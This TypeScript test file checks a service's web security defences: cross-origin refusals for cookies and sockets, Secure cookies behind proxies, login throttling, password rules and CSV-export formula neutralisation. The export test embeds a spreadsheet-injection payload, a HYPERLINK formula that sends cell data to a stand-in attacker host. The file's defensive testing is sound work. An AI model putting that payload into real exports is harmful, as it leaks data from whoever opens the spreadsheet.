/**
 * The HTTP edge's security rules (SPEC §8 Access; README, Security), over real HTTP and socket.io against
 * the real service: the origin rule for cookie-authenticated writes and live connections (bearer clients
 * unaffected, PUBLIC_ORIGIN behind a proxy), content types of imports, the Secure cookie behind a trusted
 * proxy, login bounds per address across usernames and in all, the password rule, and formula-safe CSV
 * exports.
 */
import { io } from 'socket.io-client';
import { afterEach, describe, expect, it } from 'vitest';
import { Auth } from '../../dispatcher/auth.ts';
import { SqliteStore } from '../../dispatcher/store/sqlite.ts';
import { hashPassword } from '../../gateway/secrets.ts';
import { ManualClock } from '../../kernel/clock.ts';
import { instant, minutes } from '../../kernel/time.ts';
import { apiCall, type Harness, login, startHarness, TEST_PASSWORD, tempDir } from '../helpers.ts';

const DAY = instant(Date.parse('2026-03-10T10:00:00+08:00'));
const ADMIN_PASSWORD = 'admin-password-365';
let h: Harness | undefined;
afterEach(async () => {
  await h?.close();
  h = undefined;
});

async function loginCookie(baseUrl: string, username: string, password: string): Promise<string> {
  const res = await fetch(`${baseUrl}/api/auth/login`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ username, password }),
  });
  expect(res.status).toBe(200);
  return res.headers.get('set-cookie')!.split(';')[0]!;
}

/** A cookie-authenticated POST as a browser would send it, with the given Origin and Sec-Fetch-Site. */
async function cookiePost(
  path: string,
  cookie: string,
  headers: Record<string, string>,
): Promise<{ status: number; error?: string }> {
  const res = await fetch(`${h!.baseUrl}${path}`, { method: 'POST', headers: { cookie, ...headers } });
  const body = (await res.json().catch(() => ({}))) as { error?: string };
  return { status: res.status, error: body.error };
}

function socketWith(
  extraHeaders: Record<string, string>,
  auth?: { token: string },
  transport: 'websocket' | 'polling' = 'websocket',
): Promise<'connected' | string> {
  const s = io(h!.baseUrl, { transports: [transport], reconnection: false, extraHeaders, auth });
  return new Promise((resolve) => {
    s.once('connect', () => {
      s.close();
      resolve('connected');
    });
    s.once('connect_error', (e) => {
      s.close();
      resolve(e.message);
    });
  });
}

describe('requests from other origins', () => {
  it('refuses cookie-authenticated writes and live connections not from the console’s origin; bearer clients are unaffected', async () => {
    h = await startHarness({ clock: new ManualClock(DAY), grids: 1, perGrid: 1 });
    const cookie = await loginCookie(h.baseUrl, 'admin', ADMIN_PASSWORD);
    const own = h.baseUrl;
    const evil = `http://127.0.0.1:${h.service.httpPort + 1}`;
    const disable = '/api/devices/home-1-01-door/disable';
    expect(await cookiePost(disable, cookie, {})).toEqual({ status: 403, error: 'cross_origin' });
    expect(await cookiePost(disable, cookie, { origin: evil })).toEqual({
      status: 403,
      error: 'cross_origin',
    });
    expect(await cookiePost(disable, cookie, { origin: 'null' })).toEqual({
      status: 403,
      error: 'cross_origin',
    });
    expect(await cookiePost(disable, cookie, { origin: own, 'sec-fetch-site': 'same-site' })).toEqual({
      status: 403,
      error: 'cross_origin',
    });
    expect((await h.store.getDeviceState('home-1-01-door'))?.disabled).toBe(false);
    expect((await cookiePost(disable, cookie, { origin: own, 'sec-fetch-site': 'same-origin' })).status).toBe(
      200,
    );
    // Reads with the cookie need no Origin (the other origin cannot read the answer).
    expect((await fetch(`${own}/api/session`, { headers: { cookie } })).status).toBe(200);
    // A login from another origin's page (login CSRF) is refused too.
    const foreignLogin = await fetch(`${own}/api/auth/login`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', origin: evil },
      body: JSON.stringify({ username: 'admin', password: ADMIN_PASSWORD }),
    });
    expect(foreignLogin.status).toBe(403);

    // A bearer token is no forged request, whatever the Origin.
    const token = await login(own, 'admin', ADMIN_PASSWORD);
    const bearer = await fetch(`${own}/api/devices/home-1-01-door/enable`, {
      method: 'POST',
      headers: { authorization: `Bearer ${token}`, origin: evil },
    });
    expect(bearer.status).toBe(200);

    // Live: the cookie from another origin is refused; from the console's origin, or a token, connects.
    expect(await socketWith({ cookie, origin: evil })).toBe('cross_origin');
    expect(await socketWith({ cookie })).toBe('cross_origin');
    expect(await socketWith({ cookie, origin: own })).toBe('connected');
    expect(await socketWith({ origin: evil }, { token })).toBe('connected');
    // Long-polling: a same-origin handshake (no Origin; Sec-Fetch-Site same-origin, or neither from an older
    // browser) connects; one from another origin does not.
    expect(await socketWith({ cookie, 'sec-fetch-site': 'same-origin' }, undefined, 'polling')).toBe(
      'connected',
    );
    expect(await socketWith({ cookie }, undefined, 'polling')).toBe('connected');
    expect(await socketWith({ cookie, 'sec-fetch-site': 'same-site' }, undefined, 'polling')).toBe(
      'cross_origin',
    );
    expect(await socketWith({ cookie, origin: evil }, undefined, 'polling')).toBe('cross_origin');
  });

  it('behind a proxy, takes the console’s origin from PUBLIC_ORIGIN', async () => {
    h = await startHarness({
      clock: new ManualClock(DAY),
      grids: 1,
      perGrid: 1,
      env: { PUBLIC_ORIGIN: 'https://guardian.example.org' },
    });
    const cookie = await loginCookie(h.baseUrl, 'admin', ADMIN_PASSWORD);
    const disable = '/api/devices/home-1-01-door/disable';
    expect((await cookiePost(disable, cookie, { origin: h.baseUrl })).status).toBe(403);
    expect((await cookiePost(disable, cookie, { origin: 'https://guardian.example.org' })).status).toBe(200);
    expect(await socketWith({ cookie, origin: 'https://guardian.example.org' })).toBe('connected');
    expect(await socketWith({ cookie, origin: h.baseUrl })).toBe('cross_origin');
  });

  it('takes imports only in their own content types (text/plain is refused)', async () => {
    h = await startHarness({ clock: new ManualClock(DAY), grids: 1, perGrid: 1 });
    const token = await login(h.baseUrl, 'admin', ADMIN_PASSWORD);
    const csv = 'id,name,community,leaderId\ngrid-9,九,阳光社区,\n';
    const send = (type: string, path = '/api/registry/import/grids.csv', body = csv) =>
      fetch(`${h!.baseUrl}${path}`, {
        method: 'POST',
        headers: { authorization: `Bearer ${token}`, 'content-type': type },
        body,
      }).then((r) => r.status);
    expect(await send('text/plain')).toBe(415);
    expect(await send('application/x-www-form-urlencoded')).toBe(415);
    expect(await send('text/plain', '/api/registry/import', '{}')).toBe(415);
    expect(await h.store.getGrid('grid-9')).toBeNull();
    expect(await send('text/csv')).toBe(200);
    expect(await send('application/json', '/api/registry/import', '{}')).toBe(200);
  });
});

describe('the session cookie', () => {
  const setCookie = async (headers: Record<string, string>) => {
    const res = await fetch(`${h!.baseUrl}/api/auth/login`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', ...headers },
      body: JSON.stringify({ username: 'admin', password: ADMIN_PASSWORD }),
    });
    return {
      cookie: res.headers.get('set-cookie') ?? '',
      hsts: res.headers.get('strict-transport-security'),
    };
  };

  it('is Secure when a trusted proxy says the console is served over TLS, and only then', async () => {
    h = await startHarness({
      clock: new ManualClock(DAY),
      grids: 1,
      perGrid: 1,
      env: { TRUST_PROXY: 'loopback' },
    });
    const tls = await setCookie({ 'x-forwarded-proto': 'https' });
    expect(tls.cookie).toMatch(/; Secure/);
    expect(tls.cookie).toMatch(/HttpOnly/);
    expect(tls.cookie).toMatch(/SameSite=Strict/);
    expect(tls.hsts).toMatch(/max-age=/);
    expect((await setCookie({})).cookie).not.toMatch(/Secure/);
  });

  it('ignores X-Forwarded-Proto unless TRUST_PROXY is set (a client cannot claim TLS)', async () => {
    h = await startHarness({ clock: new ManualClock(DAY), grids: 1, perGrid: 1 });
    const r = await setCookie({ 'x-forwarded-proto': 'https' });
    expect(r.cookie).not.toMatch(/Secure/);
    expect(r.hsts).toBeNull();
  });
});

describe('login abuse', () => {
  it('stops one address after 20 failures across any usernames, before any password check', async () => {
    h = await startHarness({ clock: new ManualClock(DAY), grids: 1, perGrid: 1 });
    const attempt = (username: string, password: string) =>
      apiCall(h!.baseUrl, null, 'POST', '/api/auth/login', { username, password });
    for (let i = 0; i < 20; i++) expect((await attempt(`user-${i}`, 'wrong-password-1')).status).toBe(401);
    const next = await attempt('g1-worker', TEST_PASSWORD);
    expect(next.status).toBe(429);
    expect(next.body.error).toBe('too_many_logins');
    const metric = await h.service.metrics.registry.getSingleMetricAsString('g365_login_throttled_total');
    expect(metric).toMatch(/bound="address"} 1/);
  });

  it('bounds failures from all addresses together, and opens again in the next window', async () => {
    const dir = tempDir();
    const store = new SqliteStore(`${dir.path}/g.sqlite`);
    try {
      await store.migrate();
      await store.createStaff({
        id: 's1',
        name: 's',
        phone: '',
        roles: ['grid_worker'],
        gridIds: [],
        username: 'worker',
        passwordHash: await hashPassword('right-password-1'),
      });
      const clock = new ManualClock(DAY);
      const auth = new Auth({
        store,
        clock,
        sessionHours: 1,
        limits: { perAddress: 3, global: 5, windowMs: minutes(15) },
      });
      for (let i = 0; i < 5; i++)
        expect(await auth.login('worker', 'wrong', `10.0.0.${i}`)).toEqual({
          ok: false,
          reason: 'bad_credentials',
        });
      expect(await auth.login('worker', 'right-password-1', '10.0.1.1')).toMatchObject({
        ok: false,
        bound: 'global',
      });
      clock.advance(minutes(15));
      expect((await auth.login('worker', 'right-password-1', '10.0.1.1')).ok).toBe(true);
    } finally {
      await store.close();
      dir.remove();
    }
  });

  it('refuses logins beyond two checking and three waiting as busy, before any work', async () => {
    const dir = tempDir();
    const store = new SqliteStore(`${dir.path}/g.sqlite`);
    try {
      await store.migrate();
      const auth = new Auth({
        store,
        clock: new ManualClock(DAY),
        sessionHours: 1,
        limits: { perAddress: 1000, global: 1000, checksAtOnce: 2, queue: 3 },
      });
      const all = await Promise.all(
        Array.from({ length: 12 }, (_, i) => auth.login(`nobody-${i}`, 'x', `10.0.0.${i}`)),
      );
      const reasons = all.map((r) => (r.ok ? 'ok' : r.reason === 'throttled' ? r.bound : r.reason));
      // Two checking and three waiting: five get an answer, the others are refused before any work.
      expect(reasons.filter((r) => r === 'bad_credentials')).toHaveLength(5);
      expect(reasons.filter((r) => r === 'busy')).toHaveLength(7);
    } finally {
      await store.close();
      dir.remove();
    }
  });
});

describe('the password rule', () => {
  it('wants 12 characters for an admin, 8 for others, and none of the commonest passwords, on every path', async () => {
    h = await startHarness({ clock: new ManualClock(DAY), grids: 1, perGrid: 1 });
    const admin = await login(h.baseUrl, 'admin', ADMIN_PASSWORD);
    const create = (id: string, roles: string[], password: string) =>
      apiCall(h!.baseUrl, admin, 'POST', '/api/staff', {
        id,
        name: id,
        roles,
        gridIds: [],
        username: id,
        password,
      });
    const short = await create('a1', ['admin'], 'elevenchars');
    expect(short.status).toBe(400);
    expect(short.body.message).toMatch(/body\.password: must be at least 12 characters for an admin/);
    expect((await create('a2', ['admin'], 'Password1234!')).status).toBe(400);
    expect((await create('a3', ['admin'], 'a-long-admin-pass')).status).toBe(201);
    expect((await create('w1', ['volunteer'], 'qwerty123')).status).toBe(400);
    expect((await create('w2', ['volunteer'], 'eight-ch')).status).toBe(201);
    const patch = await apiCall(h.baseUrl, admin, 'PATCH', '/api/staff/w2', {
      roles: ['admin'],
      password: 'short-pw-1',
    });
    expect(patch.status).toBe(400);
    const imp = await apiCall(h.baseUrl, admin, 'POST', '/api/registry/import', {
      staff: [{ id: 'w3', name: 'w3', roles: ['grid_worker'], username: 'w3', password: '12345678' }],
    });
    expect(imp.status).toBe(400);
    expect(JSON.stringify(imp.body)).toMatch(/commonest/);
  });
});

describe('registry CSV exports', () => {
  it('neutralise spreadsheet formulas, and an export imports back unchanged', async () => {
    h = await startHarness({ clock: new ManualClock(DAY), grids: 1, perGrid: 1 });
    const admin = await login(h.baseUrl, 'admin', ADMIN_PASSWORD);
    const home = (await h.store.getHousehold('home-1-01'))!;
    const evil = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    await h.store.upsertHousehold({
      ...home,
      residents: [{ name: evil, phone: '+86 138 0000 0000', age: 80, healthNotes: '@SUM(1)' }],
      accessNotes: '-2+3',
    });
    const res = await fetch(`${h.baseUrl}/api/registry/export/households.csv`, {
      headers: { authorization: `Bearer ${admin}` },
    });
    const csv = await res.text();
    const cells = csv.split(/[,\n]/).map((c) => c.replace(/^"|"$/g, ''));
    expect(cells.filter((c) => /^[=+\-@]/.test(c))).toEqual([]);
    expect(csv).toContain(`'=HYPERLINK`);
    expect(csv).toContain(`'+86 138 0000 0000`);

    const back = await fetch(`${h.baseUrl}/api/registry/import/households.csv`, {
      method: 'POST',
      headers: { authorization: `Bearer ${admin}`, 'content-type': 'text/csv' },
      body: csv,
    });
    expect(back.status).toBe(200);
    const again = (await h.store.getHousehold('home-1-01'))!;
    expect(again.residents[0]).toMatchObject({
      name: evil,
      phone: '+86 138 0000 0000',
      healthNotes: '@SUM(1)',
    });
    expect(again.accessNotes).toBe('-2+3');
  });
});
